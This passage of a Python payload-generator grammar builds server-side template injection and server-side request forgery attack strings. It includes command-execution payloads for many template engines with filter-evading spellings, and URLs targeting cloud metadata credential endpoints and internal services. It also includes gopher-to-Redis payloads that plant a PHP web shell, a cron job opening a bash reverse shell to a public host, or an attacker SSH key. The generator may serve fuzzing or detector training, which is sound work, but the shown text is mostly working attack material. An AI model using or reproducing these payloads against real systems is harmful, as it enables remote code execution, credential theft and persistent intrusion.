_def("lfi", [(30, "§l_trav§"), (8, "§l_abs§"), (14, "§l_wrap§"), (6, "§l_prefixed§")])


# ---------------------------------------------------------------------------------------------
# Server-side template injection
# ---------------------------------------------------------------------------------------------

_def("mul", lambda rng: f"{rng.randint(2, 99)}*{rng.randint(2, 99)}")
_def("ssti_probe", [(6, "{{§mul§}}"), (4, "${§mul§}"), (2, "#{§mul§}"), (2, "<%= §mul§ %>"), (1, "@(§mul§)"),
                    (1, "*{§mul§}"), (1, "${{§mul§}}"), (1, "{{=§mul§}}"), (1, "[[${§mul§}]]"), (1, "{§mul§}"),
                    (1, "{{'§n§'*§n§}}"), (1, "{{ §mul§ }}"), (1, "%{§mul§}"), (1, "[=§mul§]"), (1, "{%print(§mul§)%}"),
                    (1, "{php}echo §mul§;{/php}"), (1, "$" + "{{§mul§}}"), (1, "#set($x=§mul§)${x}")])


def _jinja_access(name: str, rng: random.Random) -> str:
    """One attribute step of a Jinja2 chain, in one of the spellings that get past naive filters."""
    r = rng.random()
    if r < 0.55:
        return "." + name
    if r < 0.72:
        return "['" + name + "']"
    if r < 0.82:
        return "|attr('" + name + "')"
    hexed = "".join("\\x%02x" % ord(c) if c == "_" else c for c in name)
    if r < 0.92:
        return "['" + hexed + "']"
    return "|attr('" + hexed + "')"


def _jinja_rce(rng: random.Random) -> str:
    cmd = _s("cmdq", rng)
    start = rng.choice(("cycler", "joiner", "namespace", "lipsum", "url_for", "get_flashed_messages", "config",
                        "request.application", "self._TemplateReference__context.cycler", "''", "()", "[]", "{}",
                        "request", "g", "range"))
    a = lambda n: _jinja_access(n, rng)  # noqa: E731
    if start in ("''", "()", "[]", "{}"):
        base = start + a("__class__") + rng.choice((a("__mro__") + f"[{rng.choice((1, 1, 2, -1))}]", a("__base__"), a("__bases__") + "[0]"))
        subs = base + a("__subclasses__") + "()"
        tail = rng.randrange(4)
        if tail == 0:
            return subs
        if tail == 1:
            return subs + f"[{rng.randint(40, 450)}]('{cmd}',shell=True,stdout=-1).communicate()"
        if tail == 2:
            return subs + f"[{rng.randint(40, 450)}]" + a("__init__") + a("__globals__") + f"['sys'].modules['os'].popen('{cmd}').read()"
        return subs + f"[{rng.randint(40, 450)}]" + a("__init__") + a("__globals__") + "['__builtins__']['open']('/" + _s("unix_file", rng) + "').read()"
    if start in ("lipsum", "url_for", "get_flashed_messages", "request.application"):
        glob = start + a("__globals__")
    elif start == "config":
        glob = start + a("__class__") + a("__init__") + a("__globals__")
    elif start in ("request", "g", "range"):
        glob = start + a("__class__") + a("__init__") + a("__globals__") if start != "range" else "lipsum" + a("__globals__")
    else:
        glob = start + a("__init__") + a("__globals__")
    end = rng.randrange(5)
    if end == 0:
        return glob + rng.choice((".os", "['os']")) + f".popen('{cmd}').read()"
    if end == 1:
        return glob + "['__builtins__']['__import__']('os').popen('" + cmd + "').read()"
    if end == 2:
        return glob + "['__builtins__']['eval'](\"__import__('os').popen('" + cmd + "').read()\")"
    if end == 3:
        return glob + "['__builtins__']['open']('/" + _s("unix_file", rng) + "').read()"
    return glob + ".os.system('" + cmd + "')"


def _jinja(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.12:
        return _fill(rng.choice((
            "{{config}}", "{{config.items()}}", "{{self.__dict__}}", "{{request.environ}}", "{{settings.SECRET_KEY}}",
            "{{ config['SECRET_KEY'] }}", "{{get_flashed_messages.__globals__}}", "{{request}}", "{{self}}",
            "{{url_for.__globals__.current_app.config}}", "{{[].__class__}}", "{{''.__class__.__mro__}}",
            "{{request.application.__self__._get_data_for_json.__globals__['json'].JSONEncoder.default.__globals__['current_app'].config}}",
            "{% debug %}", "{{ g.pop.__globals__.__builtins__ }}", "{{ namespace.__init__.__globals__ }}",
            "{{ cycler.__init__.__globals__ }}", "{{ self._TemplateReference__context }}", "{{ request.args.§w§ }}",
            "{{ config.from_pyfile('/§unix_file§') }}", "{{ lipsum.__globals__ }}")), rng)
    expr = _jinja_rce(rng)
    if r < 0.85:
        return rng.choice(("{{" + expr + "}}", "{{ " + expr + " }}", "{%print(" + expr + ")%}", "{% print " + expr + " %}",
                           "{% set " + _word(rng) + " = " + expr + " %}", "{% if " + expr + " %}{% endif %}",
                           "{{" + expr + "|safe}}", "{{ " + expr + "|string }}"))
    cls = rng.choice(("catch_warnings", "Popen", "_wrap_close", "WarningMessage", "FileLoader", "BuiltinImporter"))
    var = rng.choice(("c", "x", "cls", "i", _letters(rng, 1, 4)))
    return ("{% for " + var + " in ().__class__.__base__.__subclasses__() %}{% if '" + cls + "' in " + var + ".__name__ %}"
            "{{ " + var + "()._module.__builtins__['__import__']('os').popen('" + _s("cmdq", rng) + "').read() }}"
            "{% endif %}{% endfor %}")


_def("ssti_jinja", _jinja)
_def("phpfn", ["system", "exec", "passthru", "shell_exec"])
_def("ssti_twig", [
    (3, "{{§n§*'§n§'}}"), (3, "{{_self.env.registerUndefinedFilterCallback(\"§phpfn§\")}}{{_self.env.getFilter(\"§cmdqq§\")}}"),
    (3, "{{['§cmdq§']|filter('§phpfn§')}}"), (2, "{{['§cmdq§']|map('§phpfn§')|join}}"), "{{[0]|reduce('§phpfn§','§cmdq§')}}",
    "{{['§cmdq§',0]|sort('§phpfn§')}}", "{{app.request.server.all|join(',')}}", "{{dump(app)}}", "{{app.request.query.get('§w§')}}",
    "{{'/§unix_file§'|file_excerpt(1,§nn§)}}", "{{source('/§unix_file§')}}", "{{include('/§unix_file§')}}", "{{_self}}",
    "{{_self.env.setCache(\"ftp://§host§:§port§\")}}{{_self.env.loadTemplate(\"§w§\")}}", "{{[\"§cmdqq§\"]|filter(\"system\")|join(\",\")}}",
    "{{['cat /§unix_file§']|filter('passthru')}}", "{{ app.request.headers.all|json_encode }}", "{% set x = ['§cmdq§']|map('system') %}",
    "{{ {'§cmdq§': 0}|keys|map('system')|join }}", "{{constant('PHP_VERSION')}}", "{{ app.session.all|json_encode }}"])
_def("ssti_freemarker", [
    (3, "${\"freemarker.template.utility.Execute\"?new()(\"§cmdqq§\")}"),
    (3, "<#assign §w:v§=\"freemarker.template.utility.Execute\"?new()>${§w:v§(\"§cmdqq§\")}"),
    "[#assign §w:v§=\"freemarker.template.utility.Execute\"?new()][=§w:v§(\"§cmdqq§\")]",
    "<#assign §w:v§=\"freemarker.template.utility.ObjectConstructor\"?new()>${§w:v§(\"java.lang.ProcessBuilder\",\"§w§\").start()}",
    "<#assign §w:v§=\"freemarker.template.utility.JythonRuntime\"?new()><@§w:v§>import os;os.system(\"§cmdqq§\")</@§w:v§>",
    "${.version}", "${.data_model}", "${.now}", "<#list .data_model?keys as k>${k}</#list>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/§unix_file§').toURL().openStream().readAllBytes()?join(\" \")}",
    "${object.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"§cmdqq§\")}", "<#if §mul§ gt 1>§w§</#if>",
    "${\"§w§\"?api.getClass().forName(\"java.lang.Runtime\")}", "<#assign x=\"§w§\"?eval>", "${§mul§}"])
_def("ssti_velocity", [
    (2, "#set($§w:v§=§mul§)$§w:v§"), (3, "#set($§w:v§=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"§cmdqq§\"))$§w:v§.waitFor()"),
    (2, "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"§cmdqq§\")"),
    "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\"))#set($p=$rt.getRuntime().exec(\"§cmdqq§\"))$p.waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"§cmdqq§\")",
    "#foreach($i in [1..§n§])$i#end", "$§w§.getClass()", "#set($x=$request.getSession())$x", "$class.type.forName(\"java.lang.System\").getenv()",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"§cmdqq§\"))",
    "#if(§n§ > 0)§w§#end", "$!{§w§.class.forName(\"java.lang.Runtime\")}"])
_def("ssti_erb", [
    (2, "<%= §mul§ %>"), (3, "<%= system('§cmdq§') %>"), (2, "<%= `§cmdbt§` %>"), "<%= IO.popen('§cmdq§').readlines() %>",
    "<%= File.open('/§unix_file§').read %>", "<%= Dir.entries('/') %>", "<%= ENV.to_h %>", "<%= require 'open3'; Open3.capture2('§cmdq§') %>",
    "<% system('§cmdq§') %>", "<%= Kernel.exec('§cmdq§') %>", "<%= %x(§cmdq§) %>", "<%= self.class.name %>", "<%= File.read('/§unix_file§') %>",
    "<%= eval('`§cmdbt§`') %>", "<%= Process.spawn('§cmdq§') %>"])
_def("ssti_slim", ["#{§mul§}", "#{`§cmdbt§`}", "#{%x(§cmdq§)}", "#{system('§cmdq§')}", "#{File.read('/§unix_file§')}",
                   "#{IO.popen('§cmdq§').read}"])
_def("ssti_spel", [
    (3, "${T(java.lang.Runtime).getRuntime().exec('§cmdq§')}"), "*{T(java.lang.Runtime).getRuntime().exec('§cmdq§')}",
    (2, "__${T(java.lang.Runtime).getRuntime().exec('§cmdq§')}__::.x"), "__${§mul§}__::.x", "[[${§mul§}]]", "[(${§mul§})]",
    "${T(java.lang.System).getenv()}", "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('§cmdq§').getInputStream()).useDelimiter('\\\\A').next()}",
    "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('§cmdq§')}", "*{§mul§}", "#{§mul§}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('§cmdq§').getInputStream())}",
    "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('§cmdq§')}", "${@environment.getProperty('spring.datasource.password')}",
    "__${new java.lang.ProcessBuilder({'§spawnbin§','-c','§cmdq§'}).start()}__::", "${T(java.lang.Thread).sleep(§n§000)}",
    "#{new java.lang.ProcessBuilder('§w§').start()}", "${#ctx.getBean('§w§')}", "${applicationScope}",
    "${pageContext.request.getSession().getServletContext()}", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('§cmdq§')}",
    "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}", "${sessionScope}"])
_def("ssti_smarty", [
    "{$smarty.version}", (2, "{§mul§}"), "{php}echo `§cmdbt§`;{/php}", (2, "{system('§cmdq§')}"), "{if system('§cmdq§')}{/if}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['§param§']); ?>\",self::clearConfig())}",
    "{$smarty.template}", "{fetch file='/§unix_file§'}", "{include file='/§unix_file§'}", "{math equation=\"§mul§\"}",
    "{'§cmdq§'|system}", "{passthru(\"§cmdqq§\")}", "{$smarty.server.§w§}", "{self::getStreamVariable(\"file:///§unix_file§\")}",
    "{function name='§w§'}{/function}{system('§cmdq§')}"])
_def("ssti_handlebars", [
    "{{this}}", "{{#each this}}{{@key}}={{this}} {{/each}}", "{{lookup this 'constructor'}}",
    "{{#with this.constructor as |c|}}{{c.constructor \"return process.env\"}}{{/with}}",
    "{{this.constructor.constructor \"return process.mainModule.require('child_process').execSync('§cmdq§')\"}}",
    "{{#with (lookup this \"constructor\") as |ctor|}}{{#with (ctor.constructor \"return process.mainModule.require('child_process').execSync('§cmdq§')\") as |fn|}}{{fn}}{{/with}}{{/with}}",
    "{{#with \"s\" as |s|}}{{s.constructor.constructor \"return process\"}}{{/with}}", "{{#each (lookup this \"__proto__\")}}{{@key}}{{/each}}",
    "{{> /§unix_file§}}", "{{#if (lookup this \"constructor\")}}§w§{{/if}}"])
_def("ssti_mako", [
    "${§mul§}", "<% import os; x=os.popen('§cmdq§').read() %>${x}", "${self.module.cache.util.os.system('§cmdq§')}",
    "${__import__('os').popen('§cmdq§').read()}", "<%! import os %>${os.system('§cmdq§')}",
    "${self.template.module.runtime.util.os.popen('§cmdq§').read()}", "<%import subprocess%>${subprocess.check_output('§cmdq§',shell=True)}",
    "${context.keys()}", "<% x = open('/§unix_file§').read() %>${x}"])
_def("ssti_razor", ["@(§mul§)", "@{ var §w:v§ = §mul§; }@§w:v§", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c §wcmd_simple§\")",
                    "@{System.Diagnostics.Process.Start(\"powershell\",\"-enc §ps_b64§\");}", "@System.IO.File.ReadAllText(\"C:\\\\§win_file_bs§\")",
                    "@Environment.MachineName", "@System.Environment.GetEnvironmentVariables()", "@(1+§n§)", "@{ System.IO.Directory.GetFiles(\"C:\\\\\") }"])
_def("ssti_go", ["{{.}}", "{{printf \"%v\" .}}", "{{printf \"%#v\" .}}", "{{ .Env }}", "{{define \"T1\"}}<script>alert(§n§)</script>{{end}} {{template \"T1\"}}",
                 "{{ .System \"§cmdqq§\" }}", "{{ .GetFile \"/§unix_file§\" }}", "{{ html \"<img src=x onerror=alert(§n§)>\" }}",
                 "{{range .}}{{.}}{{end}}", "{{ .Exec \"§cmdqq§\" }}", "{{ index . \"§w§\" }}", "{{ call .§W§ \"§cmdqq§\" }}"])
_def("ssti_tornado", ["{% import os %}{{ os.popen('§cmdq§').read() }}", "{{handler.settings}}", "{% raw __import__('os').popen('§cmdq§').read() %}",
                      "{{ handler.request }}", "{% import subprocess %}{{ subprocess.check_output('§cmdq§',shell=True) }}", "{{__import__('os').system('§cmdq§')}}"])
_def("ssti_pebble", ["{{ §w§.getClass().forName('java.lang.Runtime').getRuntime().exec('§cmdq§') }}",
                     "{% set cmd = '§cmdq§' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}",
                     "{{ (1).TYPE.forName('java.lang.System').getenv() }}", "{{ request.getClass().getClassLoader() }}"])
_def("ssti_pug", ["#{root.process.mainModule.require('child_process').spawnSync('§spawnbin§',['-c','§cmdq§']).stdout}",
                  "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('§cmdq§')", "#{§mul§}",
                  "#{global.process.mainModule.require('child_process').execSync('§cmdq§')}", "- global.process.mainModule.require('child_process').exec('§cmdq§')"])
_def("ssti_nunjucks", ["{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('§cmdq§')\")()}}",
                       "{{ cycler.constructor(\"return process.env\")() }}", "{{joiner.constructor(\"return process.mainModule.require('child_process').execSync('§cmdq§')\")()}}",
                       "{{ ''.constructor.constructor('return process')().mainModule.require('child_process').execSync('§cmdq§') }}"])
_def("ssti_ejs", ["<%= process.mainModule.require('child_process').execSync('§cmdq§') %>", "<%- global.process.mainModule.require('child_process').execSync('§cmdq§') %>",
                  "<%- include('/§unix_file§') %>", "<%= §mul§ %>", "<%= global.process.env %>", "<% require('child_process').exec('§cmdq§') %>"])
_def("ssti_django", ["{% debug %}", "{{settings.SECRET_KEY}}", "{% load log %}{% get_admin_log §n§ as log %}{% for e in log %}{{e.user.get_username}}:{{e.user.password}}{% endfor %}",
                     "{{ request.user.password }}", "{% include '/§unix_file§' %}", "{{ messages.storages.0.signer.key }}", "{% ssi '/§unix_file§' %}",
                     "{{ request.META }}", "{% csrf_token %}{{ settings.DATABASES }}"])


def _ssti_fuzz(rng: random.Random) -> str:
    pieces = ("{{", "}}", "${", "<%", "%>", "[%", "%]", "#{", "'", "\"", "\\", "%", "}", ")", "{", "*{", "@(", "{%", "%}", "`", "$")
    return "".join(rng.choice(pieces) for _ in range(rng.randint(5, 12)))


def _ssti_multi(rng: random.Random) -> str:
    probes = [_s("ssti_probe", rng) for _ in range(rng.randint(2, 5))]
    return rng.choice(("", " ", "|", "\n", "-")).join(probes)


_def("ssti_fuzz", _ssti_fuzz)
_def("ssti_multi", _ssti_multi)
_def("ssti", [(10, "§ssti_probe§"), (22, "§ssti_jinja§"), (6, "§ssti_twig§"), (6, "§ssti_freemarker§"), (5, "§ssti_velocity§"),
              (5, "§ssti_erb§"), (2, "§ssti_slim§"), (8, "§ssti_spel§"), (5, "§ssti_smarty§"), (3, "§ssti_handlebars§"),
              (3, "§ssti_mako§"), (2, "§ssti_razor§"), (2, "§ssti_go§"), (2, "§ssti_tornado§"), (1, "§ssti_pebble§"),
              (2, "§ssti_pug§"), (2, "§ssti_nunjucks§"), (2, "§ssti_ejs§"), (2, "§ssti_django§"), (2, "§ssti_fuzz§"),
              (3, "§ssti_multi§"), (3, "§w§§ssti_probe§§w§"), (2, "§x_pre§§ssti_jinja§")])


# ---------------------------------------------------------------------------------------------
# Server-side request forgery
# ---------------------------------------------------------------------------------------------

_def("http", [(8, "http"), (2, "https")])
_def("meta_ip", lambda rng: _ip_form(rng, (169, 254, 169, 254)))
_def("lo_ip", lambda rng: _ip_form(rng, (127, 0, 0, 1), weird=0.5))
_def("aws_path", [(3, "/latest/meta-data/"), (4, "/latest/meta-data/iam/security-credentials/"),
                  (3, "/latest/meta-data/iam/security-credentials/§role§"), (2, "/latest/user-data"), "/latest/user-data/",
                  "/latest/dynamic/instance-identity/document", "/latest/meta-data/hostname", "/latest/meta-data/local-ipv4",
                  "/latest/meta-data/public-keys/0/openssh-key", "/latest/meta-data/ami-id", "/latest/meta-data/iam/info",
                  "/2009-04-04/meta-data/", "/latest/meta-data/network/interfaces/macs/", "/", "/latest/", "/latest/api/token",
                  "/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance", "/1.0/meta-data/",
                  "/latest/meta-data/placement/availability-zone", "/latest/meta-data/instance-id"])
_def("role", ["admin", "ec2-role", "s3-access", "§w§-role", "WebServerRole", "eks-node", "lambda-exec", "default", "§rand§"])
_def("gcp_path", ["instance/service-accounts/default/token", "instance/service-accounts/default/email", "project/project-id",
                  "instance/attributes/kube-env", "instance/attributes/?recursive=true", "?recursive=true&alt=json",
                  "instance/hostname", "instance/network-interfaces/0/ip", "project/attributes/ssh-keys",
                  "instance/service-accounts/default/identity?audience=§trusted§", "instance/attributes/startup-script"])
_def("s_meta", [
    (12, "§http§://§meta_ip§§aws_path§"), (4, "§http§://metadata.google.internal/computeMetadata/v1/§gcp_path§"),
    (2, "http://metadata/computeMetadata/v1/§gcp_path§"), (1, "http://metadata.google.internal/computeMetadata/v1beta1/§gcp_path§"),
    (3, "http://§meta_ip§/metadata/instance?api-version=§azver§"), (1, "http://§meta_ip§/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    (2, "http://100.100.100.200/latest/meta-data/§ali_path§"), (1, "http://169.254.170.2/v2/credentials/§uuid§"),
    (0.3, "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"), (1, "http://192.0.0.192§aws_path§"),
    (1, "http://§meta_ip§/opc/v1/instance/"), (1, "http://§meta_ip§/opc/v2/instance/"), (1, "http://§meta_ip§/metadata/v1.json"),
    (1, "http://§meta_ip§/metadata/v1/"), (1, "http://§meta_ip§/openstack/latest/meta_data.json"), (1, "http://[fd00:ec2::254]§aws_path§"),
    (1, "http://instance-data§aws_path§"), (1, "http://§meta_ip§:80§aws_path§"), (1, "http://§meta_ip§/hetzner/v1/metadata§hetz§"),
    (1, "http://169.254.169.254.nip.io§aws_path§"), (1, "http://§meta_ip§/v1/instance-id"), (1, "§meta_ip§§aws_path§"),
    (1, "http://metadata.tencentyun.com/latest/meta-data/"), (1, "http://§meta_ip§/computeMetadata/v1/§gcp_path§")])
_def("hetz", ["", "/hostname", "/instance-id", "/public-ipv4", "/private-networks", "/userdata"])
_def("azver", ["2021-02-01", "2019-06-01", "2017-08-01", "2020-09-01", "2021-12-13", "2023-07-01"])
_def("ali_path", ["ram/security-credentials/", "instance-id", "image-id", "ram/security-credentials/§role§", "hostname"])
_def("uuid", lambda rng: "%08x-%04x-%04x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16),
                                                        rng.getrandbits(16), rng.getrandbits(48)))
_def("lo_host", [
    (6, "localhost"), (8, "§lo_ip§"), (2, "127.1"), "127.0.1", "127.000.000.001", (2, "0"), (2, "0.0.0.0"), (3, "[::1]"), "[::]",
    "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "2130706433", "0x7f000001", "017700000001",
    "0x7f.0x0.0x0.0x1", "0177.0.0.1", "127.§b§.§b§.§b§", "localtest.me", "§w§.localtest.me", "lvh.me", "§w§.lvh.me",
    "127.0.0.1.nip.io", "127-0-0-1.sslip.io", "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3", "LOCALHOST", "LocalHost",
    "[0000:0000:0000:0000:0000:0000:0000:0001]", "127.127.127.127", "localhost.localdomain", "ip6-localhost",
    "0x7f.1", "127.0.0.1.xip.io", "customer§n§.app.localhost.my.company.127.0.0.1.nip.io", "[::127.0.0.1]"])
_def("b", _ri(0, 255))
_def("svc", ["redis", "mysql", "postgres", "db", "elasticsearch", "es", "kibana", "jenkins", "gitlab", "vault", "consul",
             "etcd", "admin", "api", "backend", "internal-api", "auth", "metadata", "mongo", "mongodb", "rabbitmq", "grafana",
             "prometheus", "kafka", "zookeeper", "solr", "memcached", "docker", "k8s", "nexus", "sonarqube", "tomcat", "jboss",
             "weblogic", "couchdb", "minio", "airflow", "spark-master", "hadoop", "jupyter", "argocd", "keycloak"])
_def("int_host", [
    (4, "10.§b§.§b§.§b§"), (4, "192.168.§b§.§b§"), (2, "172.§pvt172§.§b§.§b§"), "intranet", "internal", "§svc§.internal",
    "§svc§.local", (2, "§svc§.svc.cluster.local"), "§svc§.default.svc", "kubernetes.default.svc", "kubernetes.default",
    "consul.service.consul", (3, "§svc§"), "§svc§.corp", "§svc§.§w§.local", "admin.§trusted§", "§svc§.prod.internal",
    "10.0.0.1", "192.168.0.1", "192.168.1.1", "172.17.0.1", "host.docker.internal", "gateway.docker.internal",
    "§svc§-§n§.§svc§.svc", "169.254.169.253", "fd00::§n§", "[fe80::1]"])
_def("pvt172", _ri(16, 31))
_def("int_port", ["", "", "", ":22", ":25", ":80", ":443", ":2375", ":2379", ":3000", ":3306", ":5000", ":5432", ":5984",
                  ":6379", ":8000", ":8080", ":8081", ":8443", ":8500", ":8888", ":9000", ":9090", ":9200", ":10250",
                  ":11211", ":15672", ":27017", ":50070", ":4444", ":8001", ":9001", ":1337", ":§N§"])
_def("int_path", [
    (6, ""), (6, "/"), (3, "/admin"), "/admin/", "/server-status", "/actuator/env", "/actuator/heapdump", "/api/v1/§w§",
    "/console", "/manager/html", "/phpmyadmin/", "/.env", "/debug/pprof/", "/metrics", "/_cat/indices", "/v1/agent/self",
    "/containers/json", "/v2/keys/?recursive=true", "/pods", "/api/v1/namespaces/default/secrets", "/jmx-console",
    "/solr/admin/cores", "/_all_dbs", "/api/overview", "/admin/config", "/internal/§w§", "/graphql", "/v1/sys/health",
    "/_cluster/health", "/_search?q=*", "/api/v1/pods", "/version", "/healthz", "/status", "/info", "/env", "/secrets",
    "/v1/secret/§w§", "/api/json", "/script", "/_nodes", "/invoker/JMXInvokerServlet", "/v1/kv/?recurse",
    "/admin/delete?username=§user§", "/api/users", "/latest/meta-data/"])
_def("lo_any", [(4, "§lo_host§"), (3, "§int_host§"), (2, "§meta_ip§")])
_def("s_local", [(10, "§http§://§lo_host§§int_port§§int_path§"), (1, "//§lo_host§§int_port§§int_path§"),
                 (1, "§lo_host§§int_port§§int_path§"), (1, "§http§://§lo_host§§int_port§/§rand§")])
_def("s_internal", [(10, "§http§://§int_host§§int_port§§int_path§"), (1, "§int_host§§int_port§§int_path§"),
                    (1, "§http§://§int_host§:§N§/")])


def _gopher_escape(text: str) -> str:
    return "".join(ch if ch.isalnum() or ch in "/.-_*:@<>=" else "%%%02x" % ord(ch) for ch in text)


def _resp(parts: list[str]) -> str:
    """A Redis RESP command, URL-encoded as it travels inside a gopher:// URL."""
    out = [f"*{len(parts)}%0d%0a"]
    for part in parts:
        out.append(f"${len(part.encode())}%0d%0a{_gopher_escape(part)}%0d%0a")
    return "".join(out)


def _redis_gopher(rng: random.Random) -> str:
    host = _s("lo_any", rng)
    dirs, content = rng.choice((
        (("/var/www/html", "/var/www", "/usr/share/nginx/html"), "<?php system($_GET['" + _s("param", rng) + "']);?>"),
        (("/var/spool/cron", "/var/spool/cron/crontabs", "/etc/cron.d"),
         f"\n\n*/1 * * * * bash -i >& /dev/tcp/{_pub_ip(rng)}/{_s('port', rng)} 0>&1\n\n"),
        (("/root/.ssh", "/home/redis/.ssh", "/var/lib/redis/.ssh"), f"\n\nssh-rsa AAAAB3NzaC1yc2E{_letters(rng, 20, 40)} x@y\n\n")))
    directory = rng.choice(dirs)
    filename = {"/root/.ssh": "authorized_keys"}.get(directory, rng.choice(("shell.php", _word(rng) + ".php", "root", "x")))
    if "ssh" in directory:
        filename = "authorized_keys"
    key = _word(rng)
    encoded = _gopher_escape(content)
    if rng.random() < 0.6:
        body = (_resp(["flushall"]) + _resp(["set", key, content]) + _resp(["config", "set", "dir", directory])
                + _resp(["config", "set", "dbfilename", filename]) + _resp(["save"]))
    else:
        body = "%0d%0a".join((f"SET%20{key}%20%22{encoded}%22", f"CONFIG%20SET%20dir%20{directory}",
                              f"CONFIG%20SET%20dbfilename%20{filename}", "SAVE", "QUIT")) + "%0d%0a"
    return f"gopher://{host}:6379/_{body}"


_def("redis_gopher", _redis_gopher)
_def("s_proto", [
    (6, "§redis_gopher§"), (2, "gopher://§lo_any§:11211/_stats%0d%0a"), "gopher://§lo_any§:11211/_set%20§w§%200%200%20§n§%0d%0a§rand§%0d%0a",
    "gopher://§lo_any§:11211/_flush_all%0d%0a",
    (2, "gopher://§lo_any§:25/_HELO%20§evil§%0d%0aMAIL%20FROM:<§w§@§evil§>%0d%0aRCPT%20TO:<§w§@§trusted§>%0d%0aDATA%0d%0aSubject:%20§w§%0d%0a%0d%0a§w§%0d%0a.%0d%0aQUIT%0d%0a"),
    "gopher://§lo_any§:3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00%00root%00%00mysql_native_password%00",
    "gopher://§lo_any§:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00%01%04%00%01%01%05%05%00%0F%10SERVER_SOFTWAREgo%20/%20fcgiclient%20%0B%09REMOTE_ADDR127.0.0.1%0F%08SERVER_PROTOCOLHTTP/1.1%0E%02CONTENT_LENGTH§nn§%0E%04REQUEST_METHODPOST%09KPHP_VALUEallow_url_include%20%3D%20On%0Adisable_functions%20%3D%20%0Aauto_prepend_file%20%3D%20php%3A//input%0F%17SCRIPT_FILENAME/var/www/html/index.php%0D%01DOCUMENT_ROOT/%00%00%00%00%01%04%00%01%00%00%00%00",
    (2, "gopher://§lo_any§:80/_GET%20/§w§%20HTTP/1.1%0d%0aHost:%20§lo_host§%0d%0a%0d%0a"),
    "gopher://§lo_any§:8080/_POST%20/admin%20HTTP/1.1%0d%0aHost:%20localhost%0d%0aContent-Length:%20§nn§%0d%0a%0d%0a§w§=§w§",
    "gopher://§lo_any§:§port§/_§w§", (2, "dict://§lo_any§:6379/info"), "dict://§lo_any§:6379/config:set:dir:/var/www/html",
    "dict://§lo_any§:6379/flushall", "dict://§lo_any§:11211/stats", "dict://§lo_any§:§port§/§w§", "dict://§lo_any§:22/",
    (4, "file:///§unix_file§"), "file://localhost/§unix_file§", "file:/§unix_file§", "file:///c:/§win_file§", "file://\\\\§lo_host§\\c$\\§win_file_bs§",
    (2, "ldap://§lo_any§:389/§ldapdn§"), "ldap://§lo_any§/%0astats%0aquit", "ldap://§host§:1389/§w§", "ftp://§lo_any§:21/§w§",
    "ftp://anonymous:anonymous@§lo_any§/", "sftp://§host§:§port§/", "tftp://§host§:§port§/§w§", "netdoc:///§unix_file§",
    "jar:http://§host§/§w§.jar!/", "jar:file:///tmp/§w§.jar!/§w§.class", "php://filter/resource=http://§lo_any§/",
    "smb://§host§/share/§w§", "mysql://§lo_any§:3306/", "redis://§lo_any§:6379/", "ws://§lo_any§§int_port§/",
    "telnet://§lo_any§:23", "imap://§lo_any§:143/", "pop3://§lo_any§:110/", "rtsp://§lo_any§:554/",
    "phar:///tmp/§w§.phar", "expect://id", "mongodb://§lo_any§:27017/admin", "ssh://§lo_any§:22", "gopher://§host§:70/_§rand§"])
_def("ldapdn", ["dc=§w§,dc=com", "%0astats%0aquit", "cn=admin", "", "o=§w§"])
_def("internal_any", [(3, "§lo_host§"), (2, "§meta_ip§"), (2, "§int_host§"), (1, "§lo_host§:§N§")])
_def("s_confuse", [
    (3, "http://§trusted§@§internal_any§/"), (2, "http://§trusted§:§w§@§internal_any§§int_path§"), (2, "http://§internal_any§#@§trusted§/"),
    (2, "http://§internal_any§\\@§trusted§/"), "http://§internal_any§%23@§trusted§", "http://§internal_any§?@§trusted§",
    "http://§internal_any§%2f@§trusted§", "http://§trusted§%00@§internal_any§", "http://§internal_any§:80\\@§trusted§:80/",
    "http://§trusted§.127.0.0.1.nip.io/", "http:/\\/\\§internal_any§", "http:\\\\§internal_any§", "http:§internal_any§",
    (2, "//§internal_any§"), "///§internal_any§", "http://§internal_any§%09/", "http://§trusted§&@§internal_any§# @§trusted§/",
    "http://§internal_any§ &@§trusted§# @§trusted§/", (2, "https://§trusted§/redirect?url=http://§internal_any§/"),
    "https://§trusted§/§w§?next=http://§internal_any§§int_path§", "0://§internal_any§:80;http://§trusted§:80/",
    "http://[::ffff:§b§.§b§.§b§.§b§]/", "http://§internal_any§\u3002§trusted§", "http://§internal_any§/%2e%2e/§w§",
    "http://§trusted§\\@§internal_any§", "http://§internal_any§%252f@§trusted§", "https:§internal_any§§int_path§",
